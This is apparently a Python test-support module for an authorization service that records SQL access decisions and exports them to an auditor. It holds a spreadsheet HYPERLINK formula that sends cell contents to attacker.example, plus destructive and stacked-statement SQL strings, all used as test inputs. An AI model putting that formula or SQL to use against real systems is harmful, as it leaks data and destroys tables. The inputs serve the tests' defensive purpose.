"""What tests of exports have in common: a service with something recorded, and its auditor."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from counterfoil.cli import main
from deployment import Deployment, Tenant, deployed
from service import sql_request

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
_ASKED = {"DROP TABLE public.invoices": "needs_approval", "SELECT 1; DROP TABLE secret": "deny"}
_ATTEMPTS = 3
Export = Callable[..., tuple[Path, dict[str, Any]]]


@contextmanager
def exportable(folder: Path) -> Iterator[Deployment]:
    """In each tenant: an allow with its outcome, one that waits, and a deny.

    On a machine so loaded that a reader came too late (a deny of its own), all is made anew.
    """
    for attempt in range(_ATTEMPTS):
        (folder / str(attempt)).mkdir()
        with deployed(folder / str(attempt)) as started:
            if all(_told(started, tenant) for tenant in (started.acme, started.globex)):
                yield started
                return
    raise AssertionError(f"{_ATTEMPTS} times another decision than this policy's")


def _told(started: Deployment, tenant: Tenant) -> bool:
    run = started.opened(tenant, prompt=FORMULA)["access_token"]
    allowed = started.ask(run)
    started.call("POST", f"/decisions/{allowed['decision_id']}/outcome", run, {"status": "ok"})
    answers = {
        sql: started.call("POST", "/authorize", run, sql_request(sql, None)).json["effect"]
        for sql in _ASKED
    }
    return allowed["effect"] == "allow" and answers == _ASKED


def auditor_arguments(deployment: Deployment, folder: Path) -> list[str]:
    """An auditor's credential, and the deployment's configuration."""
    token = folder / "auditor.jwt"
    token.write_text(deployment.acme.person("carol", ["compliance"]))
    return ["--token-file", str(token), "--config", str(deployment.folder / "counterfoil.toml")]


def exporter(auditor: list[str], folder: Path) -> Export:
    """`export(name, *arguments)`: the file and its manifest."""

    def exported(name: str, *arguments: str) -> tuple[Path, dict[str, Any]]:
        path = folder / name
        assert main(["export", "--output", str(path), *arguments, *auditor]) == 0
        manifest = json.loads((folder / f"{name}.manifest.json").read_text())
        return path, manifest["manifest"]

    return exported


def checked(deployment: Deployment, path: Path) -> int:
    key = deployment.service.keys / "receipt.pub"
    manifest = path.with_name(path.name + ".manifest.json")
    return main(["verify", str(manifest), f"--key={key}"])


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]
